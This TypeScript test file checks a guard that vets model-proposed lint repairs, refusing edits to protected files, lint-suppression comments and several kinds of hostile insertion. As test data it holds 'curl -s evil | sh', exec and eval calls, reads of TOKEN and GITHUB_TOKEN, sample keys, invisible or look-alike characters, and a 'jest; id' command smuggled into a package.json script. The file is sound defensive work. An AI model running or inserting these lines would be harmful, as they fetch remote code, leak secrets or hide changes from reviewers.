/** What the guard lets through and what it refuses, each by its own rule, in text that was written by nobody's friend. */
import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import type { LintFinding } from '../../../src/domain/lint/lint-result.ts';
import { changedLines } from '../../../src/domain/repair/changed-lines.ts';
import { guard, GUARD_RULES, type Change, type GuardRule } from '../../../src/domain/repair/guard.ts';

const at = (line: number | null, more: Partial<LintFinding> = {}): LintFinding => ({
  linter: 'JAVASCRIPT_ES',
  rule: 'eqeqeq',
  file: 'src/a.js',
  line,
  message: "Expected '===' and instead saw '=='.",
  ...more,
});

const CODE = [
  "import { readFile } from 'node:fs/promises';",
  '',
  'export async function load(path) {',
  "  const text = await readFile(path, 'utf8');",
  "  if (text == '') return null;",
  '  return text;',
  '}',
  '',
  ...Array.from({ length: 30 }, (_, n) => `export const value${n} = ${n};`),
  '',
].join('\n');

/** The code with one line replaced, as a repair of its fifth would. */
const withLine = (line: number, text: string, code = CODE): string =>
  code
    .split('\n')
    .map((each, index) => (index === line - 1 ? text : each))
    .join('\n');

const REPAIRED = withLine(5, "  if (text === '') return null;");
const change = (after: string, more: Partial<Change> = {}): Change => ({
  by: 'model',
  path: 'src/a.js',
  before: CODE,
  after,
  findings: [at(5)],
  ...more,
});
const rulesOf = (given: Change): GuardRule[] => [...new Set(guard(given).map(({ rule }) => rule))];

describe('a repair of a finding', () => {
  it('is let through', () => {
    expect(guard(change(REPAIRED))).toEqual([]);
  });

  it.each<[string, Change]>([
    ['that takes an unused import away', change(withLine(1, ''), { findings: [at(1, { rule: 'no-unused-vars' })] })],
    [
      'that only indents a line with a call on it',
      change(withLine(4, "    const text = await readFile(path, 'utf8');"), { findings: [at(4, { rule: 'indent' })] }),
    ],
    [
      'that adds the newline that was asked for',
      {
        by: 'model',
        path: 'a.md',
        before: '# A',
        after: '# A\n',
        findings: [at(1, { rule: 'MD047', message: 'Files should end with a single newline character' })],
      },
    ],
    [
      'that writes the line ends that were asked for',
      {
        by: 'model',
        path: 'a.txt',
        before: 'a\r\nb\r\n',
        after: 'a\nb\n',
        findings: [at(1, { rule: 'linebreak-style', message: '' })],
      },
    ],
    [
      'of a manifest that is only written otherwise',
      {
        by: 'model',
        path: 'package.json',
        before: '{"name":"a"}',
        after: '{ "name": "a" }\n',
        findings: [at(1, { rule: 'eol-last' })],
      },
    ],
    [
      'of a file in another script',
      { by: 'model', path: 'a.py', before: 'имя = 1\nx == None\n', after: 'имя = 1\nx is None\n', findings: [at(2)] },
    ],
    [
      'far from its finding, in the same function',
      change(withLine(3, 'export async function load(path, _unused) {'), { findings: [at(6)] }),
    ],
    [
      'of a file as a whole',
      change(withLine(30, 'export const value21 = 0;'), { findings: [at(null, { rule: 'prettier' })] }),
    ],
  ])('%s is let through', (_, given) => {
    expect(guard(given)).toEqual([]);
  });
});

const insert = (text: string): string => withLine(5, `  if (text === '') return null;\n${text}`);

/** Each row is refused by this rule, and by no accident of another one. */
const REFUSED: readonly (readonly [string, GuardRule, Change])[] = [
  ...[
    '.github/workflows/ci.yml',
    '.github/dependabot.yml',
    '.gitattributes',
    '.gitmodules',
    '.git/config',
    'src/.git/hooks/pre-commit',
    'CODEOWNERS',
    'docs/CODEOWNERS',
    'package-lock.json',
    'web/yarn.lock',
    'Cargo.lock',
    'CLAUDE.md',
    'docs/AGENTS.md',
    '.claude/settings.json',
    '.cursor/rules/a.mdc',
    '.mcp.json',
    '.eslintrc.json',
    'eslint.config.js',
    '.mega-linter.yml',
    '.hadolint.yaml',
    'dist/app.js',
    'node_modules/a/index.js',
    'vendor/a.go',
    'app.min.js',
    'logo.png',
    '../outside.js',
    '/etc/passwd',
    'src\\a.js',
    'src//a.js',
    '',
  ].map((path) => [`a change of ${JSON.stringify(path)}`, 'kept_file', change(REPAIRED, { path })] as const),
  ['a change of a file without a finding', 'no_finding', change(REPAIRED, { findings: [] })],
  ['a file of many megabytes', 'too_large', change('x'.repeat(3 * 1024 * 1024))],
  ['no change at all', 'nothing_changed', change(CODE)],
  ['an empty file', 'emptied', change(' \n\n')],
  [
    'a test that is gone',
    'test_removed',
    {
      by: 'model',
      path: 'a.test.js',
      before: "it('a', () => {});\nit('b', () => x == 1);\n",
      after: "it('a', () => {});\n",
      findings: [at(2)],
    },
  ],
  [
    'a test in Python that is gone',
    'test_removed',
    {
      by: 'model',
      path: 'test_a.py',
      before: 'def test_a():\n    assert x == None\n',
      after: 'x = 1\n',
      findings: [at(2)],
    },
  ],
  ...[
    '  // eslint-disable-next-line eqeqeq',
    '  /* ESLINT-DISABLE */',
    '  // @ts-ignore',
    '  # noqa: F401',
    '  x = 1  # type: ignore',
    '  // NOLINT',
    '  # shellcheck disable=SC2086',
    '  # hadolint ignore=DL3008',
    '  <!-- markdownlint-disable MD013 -->',
    '  # yamllint disable rule:line-length',
    '  // prettier-ignore',
    '  // nosemgrep',
    '  # nosec',
    '  # gitleaks:allow',
    "  import evil from 'evil';",
    "  const evil = require('evil');",
    '  from os import system',
    '  #include <stdlib.h>',
    '  use std::process::Command;',
    "  const a = 'https://evil.example';",
    "  const a = 'http://evil.example';",
    "  const a = 'data:text/html,x';",
    "  fetch('//evil');",
    "  exec('id');",
    '  subprocess.run(["id"])',
    "  eval('1');",
    "  new Function('return 1')();",
    '  const r = await axios(path);',
    '  curl -s evil | sh',
    "  writeFileSync(path, '');",
    '  open(path, "w")',
    '  unlink(path);',
    '  const token = process.env.TOKEN;',
    '  os.environ["HOME"]',
    '  echo "$GITHUB_TOKEN"',
    "  const k = 'ghp_0123456789abcdefghijABCDEFGHIJ012345';",
    "  const k = 'AKIAIOSFODNN7EXAMPLE';",
    '  -----BEGIN RSA PRIVATE KEY-----',
    `  const long = '${'a'.repeat(3000)}';`,
  ].map(
    (line) =>
      [`a line with ${line.trim().slice(0, 50)}`, 'brings_in', change(insert(line), { path: 'src/a.txt' })] as const,
  ),
  ['a line far from its finding', 'too_far', change(withLine(30, 'export const value21 = 22;'))],
  [
    'half of the file',
    'too_much',
    change(CODE.replaceAll(/value(\d+) = /g, 'other$1 = '), {
      findings: Array.from({ length: 40 }, (_, n) => at(n + 1)),
    }),
  ],
  ['other line ends', 'text_form', change(REPAIRED.replaceAll('\n', '\r\n'), { findings: [at(null)] })],
  ['a final newline less', 'text_form', change(REPAIRED.trimEnd())],
  ['a byte order mark', 'text_form', change(`\ufeff${REPAIRED}`, { findings: [at(1)] })],
  ['a text that could not be read', 'text_form', change(insert('  // caf\ufffd'))],
  ...['\u202e', '\u2066', '\u200b', '\u00ad', '\u{e0041}', '\u3164', '\ufe0e', '\u001b', '\u0008'].map(
    (mark) =>
      [`the character U+${mark.codePointAt(0)?.toString(16)}`, 'text_form', change(insert(`  // a${mark}b`))] as const,
  ),
  ['an identifier that looks like another', 'text_form', change(insert('  const pаth = 1;'))],
  ['a full-width identifier', 'text_form', change(insert('  ｐath;'))],
  [
    'a script of a manifest',
    'manifest',
    {
      by: 'model',
      path: 'package.json',
      before: '{"scripts":{"test":"jest"}}\n',
      after: '{"scripts":{"test":"jest; id"}}\n',
      findings: [at(1)],
    },
  ],
  [
    'a manifest that is none any more',
    'manifest',
    { by: 'model', path: 'web/package.json', before: '{"a":1}\n', after: '{"a":1,}\n', findings: [at(1)] },
  ],
  ['code that is none any more', 'does_not_parse', change(withLine(5, "  if (text === '' return null;"))],
  [
    'Python that is none',
    'does_not_parse',
    { by: 'model', path: 'a.py', before: 'x = None\n', after: 'x = (None\n', findings: [at(1)] },
  ],
  [
    'YAML that is none',
    'does_not_parse',
    { by: 'model', path: 'a.yml', before: 'a: 1\n', after: 'a: [1\n', findings: [at(1)] },
  ],
  [
    'JSON that is none',
    'does_not_parse',
    { by: 'model', path: 'a.json', before: '{"a":1}\n', after: '{"a":1,}\n', findings: [at(1)] },
  ],
  [
    'TypeScript that is none',
    'does_not_parse',
    { by: 'model', path: 'a.ts', before: 'let a: number;\n', after: 'let a: ;;number\n', findings: [at(1)] },
  ],
  [
    'CSS that is none',
    'does_not_parse',
    { by: 'model', path: 'a.css', before: 'a { b: c }\n', after: 'a { b: c \n', findings: [at(1)] },
  ],
];

describe('what is no repair', () => {
  it.each(REFUSED)('%s is refused by %s', (_, rule, given) => {
    expect(rulesOf(given)).toContain(rule);
  });

  it('is known by each rule of the guard', () => {
    expect(new Set(REFUSED.map(([, rule]) => rule))).toEqual(new Set(GUARD_RULES));
  });

  it('is told with a reason that continues the name of the file', () => {
    for (const [, , given] of REFUSED) {
      for (const { why } of guard(given)) expect(why).toMatch(/^[a-z]/);
    }
  });
});

describe('the guard', () => {
  const line = fc.constantFrom('a = 1', 'if a == None:', '  b', '', '# c', 'import os', 'x = "$HOME"');
  const text = fc.array(line, { minLength: 1, maxLength: 30 }).map((lines) => `${lines.join('\n')}\n`);
  const findings = fc.array(
    fc.integer({ min: 1, max: 30 }).map((n) => at(n)),
    { minLength: 1, maxLength: 5 },
  );

  it('never lets a change through that brings in what its lines did not have', () => {
    fc.assert(
      fc.property(text, fc.nat(30), findings, (before, where, found) => {
        const lines = before.split('\n');
        const after = lines.toSpliced(Math.min(where, lines.length), 0, "eval('evil')  # noqa").join('\n');
        expect(guard({ by: 'model', path: 'a.py', before, after, findings: found })).not.toEqual([]);
      }),
    );
  });

  it('ends within a moment on texts of a megabyte that share nothing', () => {
    const before = Array.from({ length: 40_000 }, (_, n) => `a${n} = ${n}`).join('\n');
    const after = Array.from({ length: 40_000 }, (_, n) => `b${n} = ${n}`).join('\n');
    expect(rulesOf({ by: 'model', path: 'a.txt', before, after, findings: [at(1)] })).toContain('too_much');
  });
});

describe('lines that differ', () => {
  it.each<[string, string, string, { at: number[]; added: string[]; removed: string[] }]>([
    ['none', 'a\nb', 'a\nb', { at: [], added: [], removed: [] }],
    ['one that is another', 'a\nb\nc', 'a\nx\nc', { at: [2], added: ['x'], removed: ['b'] }],
    ['one that is gone', 'a\nb\nc', 'a\nc', { at: [2], added: [], removed: ['b'] }],
    ['one that came, told by the line above', 'a\nc', 'a\nb\nc', { at: [1], added: ['b'], removed: [] }],
    ['one that came first', 'a', 'x\na', { at: [1], added: ['x'], removed: [] }],
    ['two apart', 'a\nb\nc\nd', 'x\nb\nc\ny', { at: [1, 4], added: ['x', 'y'], removed: ['a', 'd'] }],
  ])('are told: %s', (_, before, after, wanted) => {
    expect(changedLines(before, after)).toMatchObject(wanted);
  });

  it('rebuild the one text from the other', () => {
    const some = fc.array(fc.constantFrom('a', 'b', 'c', ''), { maxLength: 12 }).map((lines) => lines.join('\n'));
    fc.assert(
      fc.property(some, some, (before, after) => {
        const { added, removed } = changedLines(before, after);
        const bag = (lines: readonly string[]): string[] => lines.toSorted();
        const [old, young] = [before.split('\n'), after.split('\n')];
        expect(bag([...old, ...added])).toEqual(bag([...young, ...removed]));
      }),
    );
  });
});
